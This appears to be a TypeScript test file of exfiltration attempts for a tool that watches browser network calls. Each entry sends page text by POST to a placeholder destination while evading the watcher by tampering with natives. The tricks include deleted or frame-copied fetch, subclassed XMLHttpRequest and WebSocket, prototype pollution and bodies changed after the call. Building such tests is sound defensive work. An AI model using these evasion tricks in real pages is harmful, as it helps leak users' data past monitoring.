/** Natives that were put back, replaced or lied to. */
// A hostile page does what the linter forbids.
// oxlint-disable no-extend-native
import { type Attempt, variants } from './attempt.ts';

export const tampering: readonly Attempt[] = [
  {
    name: 'natives: fetch deleted, in the hope of one below',
    reads: 'both',
    run: ({ text, to }) => {
      const before = window.fetch;
      Reflect.deleteProperty(window, 'fetch');
      return (window.fetch ?? before)(to, { method: 'POST', body: text });
    },
  },
  {
    name: 'natives: descriptors of a frame copied over',
    reads: 'both',
    run: async ({ text, to }) => {
      const view = await tools.frame('');
      Object.defineProperty(window, 'fetch', Object.getOwnPropertyDescriptor(view, 'fetch') as PropertyDescriptor);
      return fetch(to, { method: 'POST', body: text });
    },
  },
  {
    name: 'natives: descriptors of a frame’s XMLHttpRequest copied over',
    reads: 'both',
    run: async ({ text, to }) => {
      const view = await tools.frame('');
      Object.defineProperties(
        XMLHttpRequest.prototype,
        Object.getOwnPropertyDescriptors(view.XMLHttpRequest.prototype),
      );
      const request = new XMLHttpRequest();
      request.open('POST', to);
      request.send(text);
    },
  },
  {
    name: 'natives: a subclass of XMLHttpRequest',
    reads: 'both',
    run: ({ text, to }) => {
      class Own extends XMLHttpRequest {}
      const request = new Own();
      request.open('POST', to);
      request.send(text);
    },
  },
  {
    name: 'natives: a subclass of WebSocket',
    reads: 'page',
    run: async ({ text, to }) => {
      class Own extends WebSocket {}
      const socket = new Own(to.replace('http', 'ws'));
      await new Promise((resolve) => {
        socket.addEventListener('open', resolve);
      });
      socket.send(text);
      await tools.pause(300);
    },
  },
  ...variants(
    [
      'Function.prototype',
      'Reflect',
      'Promise.prototype',
      'Array.prototype',
      'Map.prototype',
      'MessagePort.prototype',
      'JSON',
      'TextDecoder.prototype',
      'Blob.prototype',
      'Response.prototype',
      'EventTarget.prototype',
      'Object',
    ],
    (kind) => ({
      name: `natives: every function of ${kind} replaced`,
      reads: 'both' as const,
      run: ({ text, to, variant }) => {
        const send = fetch;
        const { defineProperty, getOwnPropertyDescriptor: descriptorOf } = Object;
        const { get, ownKeys } = Reflect;
        let holder: object = window;
        for (const key of variant.split('.')) holder = get(holder, key) as object;
        for (const key of ownKeys(holder)) {
          const descriptor = descriptorOf(holder, key);
          if (typeof descriptor?.value !== 'function' || !descriptor.configurable || key === 'constructor') continue;
          descriptor.value = () => undefined;
          defineProperty(holder, key, descriptor);
        }
        void send(to, { method: 'POST', body: text });
      },
    }),
  ),
  {
    name: 'natives: Function.prototype.toString tells the function behind',
    reads: 'both',
    run: ({ text, to }) => {
      const found: unknown[] = [window.fetch];
      const { apply } = Function.prototype;
      Function.prototype.apply = function (this: (...values: unknown[]) => unknown, self: unknown, values?: unknown) {
        found.push(this);
        return Reflect.apply(apply, this, [self, values]) as unknown;
      };
      void window.fetch.toString();
      const last = found.at(-1) as typeof fetch;
      return last(to, { method: 'POST', body: text });
    },
  },
  {
    name: 'natives: the caller of a getter in the options',
    reads: 'both',
    run: ({ text, to }) =>
      fetch(to, {
        method: 'POST',
        get body() {
          return text;
        },
      }),
  },
  {
    name: 'options: inherited from Object.prototype',
    reads: 'both',
    run: ({ text, to }) => {
      Object.assign(Object.prototype, { method: 'POST', body: text });
      const sent = fetch(to, {});
      for (const key of ['method', 'body']) Reflect.deleteProperty(Object.prototype, key);
      return sent;
    },
  },
  {
    name: 'options: a body that is another text each time it is read',
    reads: 'both',
    run: ({ text, to }) => {
      let count = 0;
      const body = {
        toString: () => (count++ === 0 ? text : 'hello'),
      };
      return fetch(to, { method: 'POST', body: body as unknown as string });
    },
  },
  {
    name: 'trap: harmless the first time it is read, a text the second time',
    reads: 'both',
    isTrap: true,
    run: ({ text, to }) => {
      let count = 0;
      const body = {
        toString: () => (count++ === 0 ? 'hello' : text),
      };
      return fetch(to, { method: 'POST', body: body as unknown as string });
    },
  },
  {
    name: 'trap: a getter that gives a text the second time',
    reads: 'both',
    isTrap: true,
    run: ({ text, to }) => {
      let count = 0;
      return fetch(to, {
        method: 'POST',
        get body() {
          return count++ === 0 ? 'hello' : text;
        },
      });
    },
  },
  {
    name: 'trap: bytes that are filled after the call',
    reads: 'both',
    isTrap: true,
    run: ({ text, to }) => {
      const bytes = tools.utf8(text);
      const body = new Uint8Array(bytes.length);
      const sent = fetch(to, { method: 'POST', body });
      body.set(bytes);
      return sent;
    },
  },
  {
    name: 'trap: a form that is filled after the call',
    reads: 'both',
    isTrap: true,
    run: ({ text, to }) => {
      const body = new FormData();
      body.set('prompt', 'hello');
      const sent = fetch(to, { method: 'POST', body });
      body.set('prompt', text);
      return sent;
    },
  },
  {
    name: 'trap: bytes of a message that are filled after the call',
    reads: 'page',
    isTrap: true,
    run: async ({ text, to }) => {
      const socket = new WebSocket(to.replace('http', 'ws'));
      await new Promise((resolve) => {
        socket.addEventListener('open', resolve);
      });
      const bytes = tools.utf8(text);
      const body = new Uint8Array(bytes.length);
      socket.send(body);
      body.set(bytes);
      await tools.pause(300);
    },
  },
];
